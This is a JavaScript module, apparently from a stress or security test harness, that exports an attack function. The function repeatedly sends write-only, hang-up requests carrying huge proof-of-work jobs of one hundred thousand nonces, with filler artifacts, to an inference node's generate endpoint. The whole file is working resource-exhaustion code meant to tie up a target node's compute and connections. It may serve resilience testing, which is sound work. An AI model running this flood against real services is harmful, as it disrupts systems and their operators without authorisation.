// Jobs of a hundred thousand nonces with their artifacts, and callers who wait for jobs and hang up.
import { again, post, writeOnly } from "../sockets.mjs";

export const node = { state: "STOPPED" };

const VECTOR = Buffer.alloc(24).toString("base64");

const job = (count, more) => {
  const nonces = Array.from({ length: count }, (_, i) => i);
  return post("/api/v1/inference/pow/generate", {
    ...{ block_hash: "attack", block_height: 1, public_key: "stranger", node_id: 0, node_count: 1 },
    params: { model: "proofmill-demo", seq_len: 32, k_dim: 12 },
    nonces,
    validation: { artifacts: nonces.map((nonce) => ({ nonce, vector_b64: VECTOR })) },
    ...more,
  });
};
const JOBS = [
  job(100_000, { wait: true }),
  job(100_000, { wait: false }),
  job(100, { wait: true }),
  job(100_000, { validation: { artifacts: [] } }),
];

export const attack = (target) =>
  again({ count: 16, milliseconds: 1500 }, (number) =>
    writeOnly(target, JOBS[number % JOBS.length]),
  );
